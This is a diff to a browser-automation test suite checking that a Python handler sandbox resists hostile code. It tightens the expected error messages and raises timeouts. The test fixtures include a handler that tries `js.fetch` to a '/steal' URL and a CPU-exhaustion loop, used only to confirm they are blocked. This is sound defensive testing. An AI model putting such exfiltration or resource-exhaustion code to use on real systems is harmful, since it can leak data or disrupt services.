@@ -18,6 +18,9 @@ async function runsNormallyAfterwards(studio: StudioPage): Promise<void> {
 }
 
 test.describe('the sandbox holds against hostile handlers', () => {
+  // Each case waits for Python's cold start and often a worker restart: generous on a loaded machine.
+  test.describe.configure({ timeout: 180_000 });
+
   test.beforeEach(async ({ studio }) => {
     await studio.selectEvent(/Order Approval Event/);
   });
@@ -25,7 +28,11 @@ test.describe('the sandbox holds against hostile handlers', () => {
   test('`import js` to fetch is refused', async ({ studio }) => {
     await studio.replaceCode(handler('import js', 'js.fetch("https://example.com/steal")'));
     await studio.run();
-    await expect(studio.runResult.getByText(/ModuleNotFoundError: No module named 'js'/)).toBeVisible();
+    await expect(
+      studio.runResult.getByText("ModuleNotFoundError: No module named 'js' (not available in the Event Studio sandbox)", {
+        exact: true,
+      }),
+    ).toBeVisible();
     await runsNormallyAfterwards(studio);
   });
 
@@ -96,7 +103,7 @@ test.describe('the sandbox holds against hostile handlers', () => {
     await page.keyboard.type('\n# still typing');
     await expect(studio.editor()).toContainText('# still typing');
     await stop.click();
-    await expect(studio.runResult.getByText(/Timeout: stopped after \d+(\.\d)? s/)).toBeVisible();
+    await expect(studio.runResult.getByText(/^Timeout: stopped after \d+(\.\d)? s$/)).toBeVisible();
     await runsNormallyAfterwards(studio);
   });
 
@@ -104,7 +111,9 @@ test.describe('the sandbox holds against hostile handlers', () => {
     await studio.replaceCode(handler('', 'return sum(range(10**12))'));
     await studio.testPanel.getByRole('button', { name: 'Run', exact: true }).click();
     // The default limit is 5 s; an interrupt cannot stop C code, so the worker is terminated.
-    await expect(studio.runResult.getByText('Timeout: stopped after 5 s')).toBeVisible({ timeout: 20_000 });
+    await expect(studio.runResult.getByText('Timeout: stopped after 5 s', { exact: true })).toBeVisible({
+      timeout: 60_000,
+    });
     await runsNormallyAfterwards(studio);
   });
 });
